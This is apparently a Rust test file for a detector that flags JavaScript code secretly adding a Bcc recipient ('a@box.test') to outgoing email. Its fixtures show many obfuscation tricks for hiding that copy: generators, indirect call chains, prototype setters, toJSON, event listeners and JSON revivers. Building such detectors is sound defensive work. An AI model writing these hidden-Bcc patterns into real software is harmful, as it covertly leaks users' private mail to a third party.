//! What stands between the call that a reader sees and the one that is made.

use super::{check, sends};

const BCC: &str = "role=bcc recipient=a@box.test";

#[track_caller]
fn hides(source: &str) {
    sends(source, BCC);
}

#[test]
fn generators_give_lists() {
    hides(
        "function* copies() { yield ['Bcc', 'a@box.test']; }
        function* fields(To) { yield ['To', To]; yield* copies(); }
        export const send = (to) => client.sendEmail(Object.fromEntries(fields(to)));",
    );
    hides(
        "function* sender() { for (;;) { const mail = yield; client.sendEmail(mail); } }
        const sending = sender(); export const send = (To) => sending.next({ To, Bcc: 'a@box.test' });",
    );
    hides(
        "class Fields { *[Symbol.iterator]() { yield ['Bcc', 'a@box.test']; } }
        export const send = () => client.sendEmail(Object.fromEntries(new Fields()));",
    );
    // One that is handed to a call waits for what it yields.
    hides("const deliver = co(function* (To) { const result = yield client.sendEmail({ To, Bcc: 'a@box.test' }); return result; });
        export { deliver };");
}

#[test]
fn calls_of_calls_are_calls() {
    for call in [
        "Function.prototype.call.call(client.sendEmail, client, mail)",
        "Function.prototype.apply.call(client.sendEmail, client, [mail])",
        "Reflect.apply(Function.prototype.call, client.sendEmail, [client, mail])",
        "setTimeout((late) => client.sendEmail(late), 5, mail)",
        "process.nextTick((late) => client.sendEmail(late), mail)",
    ] {
        hides(&format!("export function send(To) {{ const mail = {{ To, Bcc: 'a@box.test' }}; return {call}; }}"));
    }
    hides(
        "const call = Function.prototype.call.bind(client.sendEmail);
        export const send = (To) => call(client, { To, Bcc: 'a@box.test' });",
    );
}

#[test]
fn a_function_that_replaces_itself_is_the_other_one() {
    hides("function deliver(mail) { return _deliver.apply(this, arguments); }
        function _deliver() { _deliver = function (mail) { return client.sendEmail(mail); }; return _deliver.apply(this, arguments); }
        export const send = (To) => deliver({ To, Bcc: 'a@box.test' });");
}

#[test]
fn messages_arrive_where_somebody_listens() {
    for listens in [
        "port.on('message', (mail) => client.sendEmail(mail));",
        "port.onmessage = ({ data }) => client.sendEmail(data);",
        "port.addEventListener('message', (event) => client.sendEmail(event.data));",
    ] {
        hides(&format!(
            "import {{ port }} from './ports.js'; {listens} export const send = (mail) => port.postMessage({{ ...mail, Bcc: 'a@box.test' }});"
        ));
    }
    hides("const bus = new EventTarget(); bus.addEventListener('mail', (event) => client.sendEmail(event.detail));
        export const send = (mail) => bus.dispatchEvent(new CustomEvent('mail', { detail: { ...mail, Bcc: 'a@box.test' } }));");
}

#[test]
fn tags_get_the_texts_of_templates() {
    hides(
        "const letter = (texts, To) => client.sendEmail({ To, Bcc: texts[1] });
        export const send = (to) => letter`to ${to}a@box.test`;",
    );
}

#[test]
fn what_is_thrown_is_caught() {
    hides(
        "export function send(mail) { try { throw { ...mail, Bcc: 'a@box.test' }; } catch (late) { client.sendEmail(late); } }",
    );
}

#[test]
fn properties_come_from_behind_an_object() {
    for change in [
        "Object.setPrototypeOf(mail, { Bcc: 'a@box.test' });",
        "mail.__proto__ = { Bcc: 'a@box.test' };",
        "mail.__defineGetter__('Bcc', () => 'a@box.test');",
        "Object.defineProperties(mail, { Bcc: { value: 'a@box.test' } });",
    ] {
        hides(&format!("export function send(To) {{ const mail = {{ To }}; {change} client.sendEmail(mail); }}"));
    }
    hides("export const send = (mail) => client.sendEmail(Object.create(mail, { Bcc: { value: 'a@box.test' } }));");
}

#[test]
fn objects_make_texts_of_themselves() {
    for object in ["{ toString: () => 'a@box.test' }", "{ [Symbol.toPrimitive]: () => 'a@box.test' }", "new Address()"]
    {
        hides(&format!(
            "class Address {{ #at = 'box.test'; toString() {{ return 'a@' + this.#at; }} }} const who = {object};
            export const send = (To) => client.sendEmail({{ To, Bcc: `${{who}}` }});"
        ));
    }
}

#[test]
fn revivers_and_replacers_put_values_in() {
    hides(
        "export const send = (mail) => client.sendEmail(JSON.parse(JSON.stringify({ To: mail.to, Bcc: '' }), \
        (name, value) => name === 'Bcc' ? 'a@box.test' : value));",
    );
    hides(
        "export const send = (mail) => client.sendEmail(JSON.parse(JSON.stringify(mail, \
        (name, value) => name === '' ? { ...value, Bcc: 'a@box.test' } : value)));",
    );
}

#[test]
fn what_reflect_constructs_is_made_with_new() {
    let note = "class Note { constructor(To) { this.To = To; this.Bcc = 'a@box.test'; } }\n";
    for made in ["Reflect.construct(Note, [To])", "construct(Note, [To])", "Reflect.construct(NOTES[kind], [To])"] {
        sends(
            &format!(
                "{note}const {{ construct }} = Reflect;\nconst NOTES = {{ note: Note }};\n\
                 export const send = (To, kind) => client.sendEmail({made});"
            ),
            BCC,
        );
    }
}

#[test]
fn functions_that_are_called_with_new_make_objects() {
    sends(
        "function Note(To) { this.To = To; this.Bcc = 'a@box.test'; }\n\
         export const send = (To) => client.sendEmail(new Note(To));",
        BCC,
    );
    sends(
        "function Post() { var self = this; this.copy = 'a@box.test'; \
         this.send = function (To) { return client.sendEmail({ To, Bcc: self.copy }); }; }\n\
         export const send = (To) => new Post().send(To);",
        BCC,
    );
}

#[test]
fn events_that_code_waits_for_bring_what_is_emitted() {
    for wait in [
        "import { once } from 'node:events';\nconst [mail] = await once(queue, 'mail'); await client.sendEmail(mail);",
        "import { on } from 'events';\nfor await (const [mail] of on(queue, 'mail')) await client.sendEmail(mail);",
        "import events from 'events';\nconst given = await events.once(queue, 'mail'); await client.sendEmail(given[0]);",
    ] {
        sends(&format!("{wait}\nexport const send = (To) => queue.emit('mail', {{ To, Bcc: 'a@box.test' }});"), BCC);
    }
}

#[test]
fn objects_say_what_they_are_in_json() {
    let post = |body: &str| {
        let send = "fetch('https://api.resend.com/emails', { method: 'POST', body: JSON.stringify(BODY) })";
        check(&format!("export const send = (to) => {};", send.replace("BODY", body)), BCC);
    };
    post("{ text: '', toJSON: () => ({ from: process.env.ME, to, bcc: 'a@box.test' }) }");
    post("{ from: process.env.ME, to, bcc: { toJSON() { return ['a@box.test']; } } }");
    post("[{ from: process.env.ME, to, bcc: new (class { toJSON() { return 'a@box.test'; } })() }][0]");
}
